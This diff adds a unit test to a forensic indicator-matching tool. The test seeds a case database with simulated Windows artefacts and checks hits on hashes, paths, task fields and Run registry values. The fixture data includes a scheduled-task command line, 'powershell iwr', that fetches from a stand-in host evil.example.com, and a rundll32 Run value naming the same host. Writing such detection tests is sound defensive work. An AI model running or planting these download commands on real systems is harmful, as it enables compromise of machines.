@@ -704,6 +704,73 @@ UNIT_CASE(load_match)
 	free(casepath);
 }
 
+static const char remembered[] =
+    "INSERT INTO source(id, kind, path, status, tool_version, added_at) "
+    "VALUES (1, 'registry', 'Amcache.hve', 'ok', 't', 0);"
+    "INSERT INTO record(id, source_id, type, locator, summary) VALUES "
+    "(1,1,'artefact','AMCACHE amcache-file x','s'),"
+    "(2,1,'artefact','SOFTWARE task y','s'),"
+    "(3,1,'regkey','NTUSER key Run','s'),"
+    "(4,1,'artefact','AMCACHE amcache-file z','s');"
+    "INSERT INTO artefact(record_id, kind, path, sha1) VALUES "
+    "(1,'amcache-file','c:\\users\\a\\appdata\\QuillUpdate.EXE',"
+    "'0123456789abcdef0123456789abcdef01234567'),"
+    "(4,'amcache-file','c:\\windows\\notepad.exe',"
+    "'1111111111111111111111111111111111111111');"
+    "INSERT INTO artefact(record_id, kind, name, command_line, data) VALUES"
+    " (2,'task','\\Updater','powershell -c iwr http://evil.example.com/p',"
+    "'{\"Author\":\"198.51.100.7\"}');"
+    "INSERT INTO reg_key(record_id, hive, path) VALUES (3,'NTUSER','Run');"
+    "INSERT INTO reg_value(record_id, name, type, size, text) VALUES "
+    "(3,'Updater',1,10,'C:\\t\\QuillUpdate.exe'),"
+    "(3,'Other',1,10,'rundll32 evil.example.com,x'),"
+    "(3,'Plain',1,10,'C:\\Windows\\notepad.exe');";
+
+/*
+ * What Windows remembered is evidence too: an Amcache entry's hash and
+ * path, a task's command line and fields, a Run value's text (cited on
+ * the key's record, one hit per value).
+ */
+UNIT_CASE(match_artefacts)
+{
+	struct ct_error err = CT_ERROR_INIT;
+	struct ct_ioc_load_stats ls;
+	struct ct_ioc_match_stats ms;
+	struct ct_case *c;
+	char *casepath, *a;
+
+	casepath = ct_xasprintf("%s/artefacts.db", dir);
+	CHECK_INT(ct_case_open(casepath, CT_CASE_WRITE, &c, &err), CT_OK);
+	if (!c)
+		return;
+	CHECK_INT(ct_case_exec(c, remembered, &err), CT_OK);
+	a = write_file("r.txt", "0123456789abcdef0123456789abcdef01234567\n"
+	    "quillupdate.exe\nevil.example.com\n198.51.100.7\n");
+	CHECK_INT(ct_ioc_load(c, a, &ls, &err), CT_OK);
+	CHECK_INT(ls.valid, 4);
+	CHECK_INT(ct_ioc_match(c, 0, &ms, &err), CT_OK);
+	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
+	    "record_id = 1 AND field = 'sha1'"), 1);
+	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
+	    "record_id = 1 AND field = 'path' AND matched = "
+	    "'QuillUpdate.EXE'"), 1);
+	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
+	    "record_id = 2 AND field = 'command_line'"), 1);
+	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
+	    "record_id = 2 AND field = 'data.Author'"), 1);
+	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
+	    "record_id = 3 AND field = 'value Updater' AND matched = "
+	    "'QuillUpdate.exe'"), 1);
+	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
+	    "record_id = 3 AND field = 'value Other'"), 1);
+	/* notepad.exe is no indicator: neither its artefact nor its value */
+	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
+	    "record_id = 4 OR field = 'value Plain'"), 0);
+	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit"), 6);
+	ct_case_close(c);
+	free(casepath);
+}
+
 static const struct unit_case cases[] = {
 	{ "refang_values", refang_values },
 	{ "hash_values", hash_values },
@@ -725,6 +792,7 @@ static const struct unit_case cases[] = {
 	{ "openioc_refused", openioc_refused },
 	{ "detect_format", detect_format },
 	{ "load_match", load_match },
+	{ "match_artefacts", match_artefacts },
 	{ NULL, NULL }
 };
 
